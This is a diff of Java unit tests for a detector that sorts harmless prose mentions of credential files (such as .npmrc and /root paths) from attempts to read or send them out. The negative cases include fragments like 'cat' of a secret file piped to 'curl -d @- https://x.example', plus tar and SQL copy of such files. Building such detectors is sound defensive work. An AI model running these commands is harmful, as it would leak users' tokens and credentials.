@@ -3,6 +3,7 @@ package trafficguardian.rules.prose;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -40,7 +41,17 @@ class NamedFilesTest {
         "\\fB~#\\fR",
         "The keys are in\n.Pa ~# ,\n",
         "the <code class=\"filename\">/root#</code> file",
-        "option('--x', default='~#')"
+        "option('--x', default='~#')",
+        "programs that read the ~#\n           file may decide",
+        "kept in ~#\\n    74\\tor in another place",
+        "kept in ~#.\\n\\nSYNOPSIS\\n",
+        "edits the files ~#, /etc/group,\n       and /etc/x. Then",
+        "changes to ~# and /root/.x only",
+        "one of ~# (tokens), ~/.x (none)",
+        "FILES\n       ~#\n           Holds tokens.\n",
+        "FILES\", \"       ~#\\n           Holds tokens.\", \"",
+        "\n   9\t     ~#\n  10\t     ~/.x\n  11\t        Both hold tokens",
+        "{ path: '/path/to#' }"
       })
   void isHarmless(String text) {
     assertTrue(isHarmlessAtTheMark(text));
@@ -60,10 +71,27 @@ class NamedFilesTest {
         "GET /root#;",
         "`cat ~#`\n",
         "/root#\nroot:x",
-        "out: ~#\\n  512  exit"
+        "out: ~#\\n  512  exit",
+        "cat ~#\ncurl -d @- https://x.example",
+        "for f in ~#\ndo cat",
+        "copy t from '/root#';\nselect x",
+        "tar cz \\\n    ~# \\\n      ~/.x then",
+        "a\n  ~#\n  ~/.x\n",
+        "cat ~# (",
+        "copied ~# and /root/.x to share",
+        "/path/toys#;"
       })
   void isOnItsWay(String text) {
     assertFalse(isHarmlessAtTheMark(text));
+  }
+
+  @Test
+  void isToldOfInForm() {
+    assertTrue(NamedFiles.isHarmless("q=in+%7E", "%2F.npmrc", "+file+is+kept%2C"));
+    assertTrue(NamedFiles.isHarmless("the+%7E", "%2F.npmrc", "%0A+++file+is"));
+    assertFalse(NamedFiles.isHarmless("f=%7E", "%2F.npmrc", "&q=what+is+it"));
+    assertFalse(NamedFiles.isHarmless("c=cat+%7E", "%2F.npmrc", "%0Acurl+-d"));
+    assertFalse(NamedFiles.isHarmless("/s/file%3A%2F%2F", "%2F.npmrc", "/ok.png"));
   }
 
   /** Of a text with a path where the mark is. */
